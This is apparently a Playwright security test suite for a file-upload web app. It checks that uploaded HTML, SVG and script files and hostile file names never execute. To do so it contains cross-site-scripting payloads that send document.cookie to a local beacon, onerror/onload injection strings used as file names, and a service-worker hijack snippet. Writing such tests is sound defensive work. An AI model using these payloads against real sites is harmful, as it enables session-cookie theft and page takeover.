/**
 * Files of strangers, opened in a real browser: nothing in them runs, reads a cookie or stays behind. Whatever runs would tell a
 * beacon of ours.
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import { once } from 'node:events';
import { after, before, test } from 'node:test';
import { chromium } from 'playwright-core';
import { field } from './acts.mjs';
import { ARGS, CHROMIUM, PATIENCE, Server, until } from './support.mjs';

let server;
let browser;
let beacon;
/** What was asked of the beacon. Nobody should. */
let told = [];

before(async () => {
  beacon = http.createServer((request, answer) => {
    if (request.url === '/free') return void answer.setHeader('content-type', 'text/html').end(`<script>${tell('ran')}</script>`);
    if (request.url !== '/favicon.ico') told.push(request.url);
    answer.setHeader('access-control-allow-origin', '*').end();
  });
  beacon.listen(0, '127.0.0.1');
  await once(beacon, 'listening');
  server = await Server.start();
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
});
after(async () => {
  await browser?.close();
  await server?.stop();
  beacon?.close();
});

const tell = (what) => `fetch('http://127.0.0.1:${beacon.address().port}/${what}?'+document.cookie).catch(()=>0);new Image().src='http://127.0.0.1:${beacon.address().port}/${what}-image'`;

/** A page of ours, and what breaks its policy. */
async function visit() {
  const context = await browser.newContext({ acceptDownloads: true });
  const page = await context.newPage();
  const violations = [];
  page.on('console', (message) => {
    if (/content security policy|refused to/i.test(message.text())) violations.push(message.text());
  });
  page.on('pageerror', (error) => violations.push(String(error)));
  page.on('dialog', (dialog) => {
    violations.push(`a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  await page.goto(`${server.url}/files`);
  return { context, page, violations };
}

/** Stores a file in the name of the page's visitor, and answers what the server says of it. */
function store(page, name, content, type) {
  return page.evaluate(async ([name, content, type]) => {
    const form = new FormData();
    form.append('files', new File([content], name, { type }));
    const answer = await fetch('/files', { method: 'POST', body: form });
    const json = await answer.json();
    return json.files[0] ?? json;
  }, [name, content, type]);
}

test('XSS-01, XSS-02: hostile pages and drawings are saved, and nothing in them runs', { timeout: PATIENCE * 3 }, async () => {
  const { context, page, violations } = await visit();
  assert.equal(await page.evaluate(() => document.cookie), '', 'no script reads the cookie, not even ours');
  const script = tell('ran');
  // Where nothing holds it back it does run, or this test would show nothing.
  const free = await context.newPage();
  await free.goto(`http://127.0.0.1:${beacon.address().port}/free`);
  await until('the beacon is told', () => told.length >= 2);
  await free.close();
  told = [];
  for (const [name, content, type] of [
    ['x.html', `<!doctype html><title>x</title><script>${script}</script><img src=x onerror="${script}">`, 'text/html'],
    ['x.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${script}"/></body></foreignObject></svg>`, 'image/svg+xml'],
    ['x.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`, 'application/xhtml+xml'],
    ['x.txt', `<script>${script}</script>`, 'text/plain'],
  ]) {
    const file = await store(page, name, content, type);
    assert.ok(file.url, `${name}: ${JSON.stringify(file)}`);
    const tab = await context.newPage();
    const saved = tab.waitForEvent('download', { timeout: PATIENCE }).then((download) => download.suggestedFilename());
    const opened = tab.goto(server.url + file.url).then(() => 'shown', (error) => (/download/i.test(String(error)) ? saved : Promise.reject(error)));
    const what = await opened;
    saved.catch(() => {});
    // Plain text is shown as text; whatever can act is saved.
    if (name.endsWith('.txt') && what === 'shown') assert.equal(await tab.locator('script').count(), 0, name);
    else assert.equal(what, name, 'it is saved under its name');
    await tab.close();

    // Embedded in every way that a page of ours could be led to, it is dead as well.
    await page.evaluate((url) => Promise.all(['iframe', 'object', 'embed', 'img'].map((tag) => new Promise((done) => {
      const element = document.createElement(tag);
      element.onload = element.onerror = () => done();
      element[tag === 'object' ? 'data' : 'src'] = url;
      document.body.append(element);
      setTimeout(done, 1_000);
    }))), file.url);
  }
  assert.deepEqual(told, [], 'nobody told anything');
  assert.deepEqual(violations.filter((one) => /dialog/.test(one)), []);
  await context.close();
});

test('XSS-03: what is no script is none, whatever it is called', { timeout: PATIENCE * 2 }, async () => {
  const { context, page } = await visit();
  const file = await store(page, 'lib.js', tell('script'), 'text/javascript');
  const outcome = await page.evaluate((url) => new Promise((done) => {
    const script = document.createElement('script');
    script.src = url;
    script.onload = () => done('ran');
    script.onerror = () => done('refused');
    document.head.append(script);
  }), file.url);
  assert.equal(outcome, 'refused');
  const imported = await page.evaluate((url) => import(url).then(() => 'ran', () => 'refused'), file.url);
  assert.equal(imported, 'refused');
  assert.deepEqual(told, []);
  await context.close();
});

test('XSS-14: no service worker comes out of a file', { timeout: PATIENCE * 2 }, async () => {
  const { context, page } = await visit();
  for (const [name, type] of [['sw.js', 'text/javascript'], ['sw', ''], ['sw.txt', 'text/plain']]) {
    const file = await store(page, name, "self.addEventListener('fetch', (event) => event.respondWith(new Response('owned')))", type);
    for (const scope of [undefined, '/', '/_upload/']) {
      const outcome = await page.evaluate(([url, scope]) => navigator.serviceWorker.register(url, scope && { scope }).then(() => 'registered', (error) => error.name), [file.url, scope]);
      assert.match(outcome, /SecurityError|TypeError/, `${name} for ${scope}`);
    }
  }
  assert.equal(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.length)), 0);
  await context.close();
});

test('XSS-08: hostile names and previews stay text and pictures, and the policy has nothing to stop', { timeout: PATIENCE * 3 }, async () => {
  const { context, page, violations } = await visit();
  const names = ['<img src=x onerror=alert(1)>.txt', '"><svg onload=alert(1)>.txt', "';alert(1);'.txt", '{{7*7}}.txt', 'javascript:alert(1).txt', '&lt;script&gt;alert(1)&lt;/script&gt;.txt'];
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${tell('preview')}</script></svg>`;
  await field(page).setInputFiles([
    ...names.map((name) => ({ name, mimeType: 'text/plain', buffer: Buffer.from('x') })),
    { name: '<marquee>drawing<marquee>.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) },
  ]);
  await until('all are stored', async () => (await page.evaluate(async () => (await (await fetch('/api/files')).json()).files.length)) === names.length + 1);
  const stored = await page.evaluate(async () => (await (await fetch('/api/files')).json()).files.map((file) => file.name));
  for (const again of [false, true]) {
    if (again) await page.reload();
    for (const name of stored) await page.getByText(name, { exact: false }).first().waitFor({ state: 'attached', timeout: PATIENCE });
    assert.equal(await page.locator('img[onerror], svg[onload], marquee').count(), 0, 'no element came out of a name');
  }
  assert.deepEqual(violations, [], 'no violation of the policy, no error, no dialog');
  assert.deepEqual(told, []);
  await context.close();
});
